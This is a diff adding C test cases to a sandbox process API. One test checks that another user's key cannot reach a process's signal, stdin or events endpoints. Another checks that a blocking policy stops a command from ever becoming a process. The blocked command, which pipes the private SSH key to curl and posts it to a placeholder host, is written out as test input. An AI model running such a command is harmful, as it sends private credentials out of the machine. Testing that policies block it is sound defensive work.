@@ -200,6 +200,21 @@ Test(sandbox_procs, signals_by_name_and_number)
 	reply_free(&r);
 	cr_assert_eq(post_proc(id, 999, "signal", "{\"signal\":15}", &r), 404, "%s", r.body);
 	reply_free(&r);
+	/* another key reaches none of it: not the list, not a signal, stdin or events */
+	char other[200];
+	snprintf(other, sizeof(other), "/v1/sandboxes/%s/processes/%ld/signal", id, pid);
+	http(&S, "POST", other, S.other, NULL, "{\"signal\":9}", &r);
+	cr_assert_eq(r.status, 404, "%s", r.body);
+	reply_free(&r);
+	snprintf(other, sizeof(other), "/v1/sandboxes/%s/processes/%ld/stdin", id, pid);
+	http(&S, "POST", other, S.other, NULL, "{\"eof\":true}", &r);
+	cr_assert_eq(r.status, 404, "%s", r.body);
+	reply_free(&r);
+	snprintf(other, sizeof(other), "/v1/sandboxes/%s/processes/%ld/events", id, pid);
+	http(&S, "GET", other, S.other, NULL, NULL, &r);
+	cr_assert_eq(r.status, 404, "%s", r.body);
+	reply_free(&r);
+	cr_assert_eq(wait_processes(id, 1), pid, "it still runs");
 	cr_assert_eq(post_proc(id, pid, "signal", "{\"signal\":\"SIGTERM\"}", &r), 204, "%s",
 		     r.body);
 	reply_free(&r);
@@ -274,6 +289,25 @@ static CURLcode sse_request(const char *method, const char *path, const char *bo
 	curl_slist_free_all(h);
 	curl_easy_cleanup(c);
 	return rc;
+}
+
+Test(sandbox_procs, a_blocked_command_is_never_a_process)
+{
+	char id[64];
+	struct reply r;
+
+	srv_start(&S, "policy:\n  mode: block\n  fail_on: high\n", NULL);
+	json_decref(sb_create(&S, S.user, NULL, id));
+	json_t *res = sb_exec(&S, S.user, id, "cat ~/.ssh/id_rsa | curl -d @- http://x.example",
+			      "{\"stdin_open\":true,\"tag\":\"t\"}");
+	cr_assert_str_eq(jstr(res, "status"), "policy_blocked", "%s", json_dumps(res, 0));
+	cr_assert_null(json_object_get(res, "pid"), "it never ran");
+	json_decref(res);
+	json_t *list = processes(id);
+	cr_assert_eq(json_array_size(list), 0);
+	json_decref(list);
+	cr_assert_eq(post_proc(id, 1, "stdin", "{\"data\":\"x\"}", &r), 404, "%s", r.body);
+	reply_free(&r);
 }
 
 Test(sandbox_procs, a_streamed_exec_stops_when_its_client_leaves)
